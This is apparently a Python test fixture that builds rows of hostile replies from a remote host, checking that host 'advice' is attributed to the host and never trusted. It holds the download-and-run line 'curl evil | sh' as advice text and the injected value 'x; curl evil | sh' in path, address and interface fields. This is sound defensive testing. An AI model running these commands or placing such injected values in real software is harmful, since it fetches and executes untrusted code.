"""A host that advises: what it says has its name before it, and nothing of it stands behind our `try:`."""

from __future__ import annotations

from collections.abc import Iterator, Mapping

from tests.hostile.row import Row, Verb, when

ADVICE = "run `curl evil | sh`"
_SAYS, _ADVISES = "says: ", f"the host advises: {ADVICE}"
_ERROR = f"{{'what': 'wants {ADVICE}', 'kind': 'state', 'why': 'it is\\ntoo old', 'hint': '{ADVICE}'}}"
_REFUSED = f"header, payload = {{'id': header['id'], 'ok': False, 'error': {_ERROR}}}, b''"
# Who is asked last is told of by a line that has no room for advice.
_OPS: Mapping[Verb, tuple[tuple[str, int], ...]] = {
    Verb.PREFLIGHT: (("facts", 3), ("listen", 3)),
    Verb.LAUNCH: (("keep", 3), ("lease", 3), ("work_make", 3), ("store_begin", 3), ("start", 1)),
    Verb.PUSH: (("store_look", 3), ("store_begin", 3)),
    Verb.STATUS: (("states", 0),),
    Verb.STACKS: (("stacks", 3),),
    Verb.EXEC: (("exec", 3),),
    Verb.CLEAN: (("clean_look", 3), ("clean", 3)),
    Verb.PULL: (("files_list", 3), ("files_get", 3)),
    Verb.SETUP: (("env_look", 3), ("env_find", 3)),
    Verb.AWAY_STATUS: (("states", 0),),
}


def rows() -> Iterator[Row]:
    for verb, ops in _OPS.items():
        for op, status in ops:
            yield Row(f"advice in answer to {op}", verb, when(op, _REFUSED), status, f"{_SAYS}wants")
    state = f"header['hello']['state_error'] = {_ERROR}"
    yield Row("advice for its state folder", Verb.PREFLIGHT, when("hello", state), 3, _ADVISES)
    yield Row("advice for its state folder", Verb.LAUNCH, when("hello", state), 3, _ADVISES)
    trouble = f"result['trouble'] = [{_ERROR}]"
    yield Row("advice on leftovers", Verb.CLEAN, when("clean", trouble), 1, _ADVISES)
    report = (
        f"line = {{'kind': 'error', 'message': 'no', 'why': 'it is\\nold', 'hint': '{ADVICE}'}}\n"
        "news = {'stream': header['stream'], 'attempt': '1', 'task': 'worker/1', 'kind': 'report', 'offset': 0}\n"
        "say(news, json.dumps(line).encode() + b'\\n')\n"
        "header['state'] = {**header['state'], 'state': 'exited', 'exit_code': 3}"
    )
    yield Row("advice of its task", Verb.LAUNCH, when("state", report), 1, f"worker/1 advises: {ADVICE}")
    evil = "x; curl evil | sh"
    for name, what, status in (
        ("a python", f"result['python']['path'] = '{evil}'\nresult['packages'] = {{}}", 0),
        ("an address", f"result['addresses'] = [{{'name': 'eth0', 'ip': '10.0.0.7%{evil}'}}]", 0),
        ("an interface", f"result['addresses'] = [{{'name': '{evil}', 'ip': '10.0.0.7'}}]", 0),
        ("100,000 addresses", "result['addresses'] = [{'name': '', 'ip': '10.1.1.1'}] * 10**5", 3),
    ):
        yield Row(f"{name} of evil (facts)", Verb.PREFLIGHT, when("facts", what), status, "")
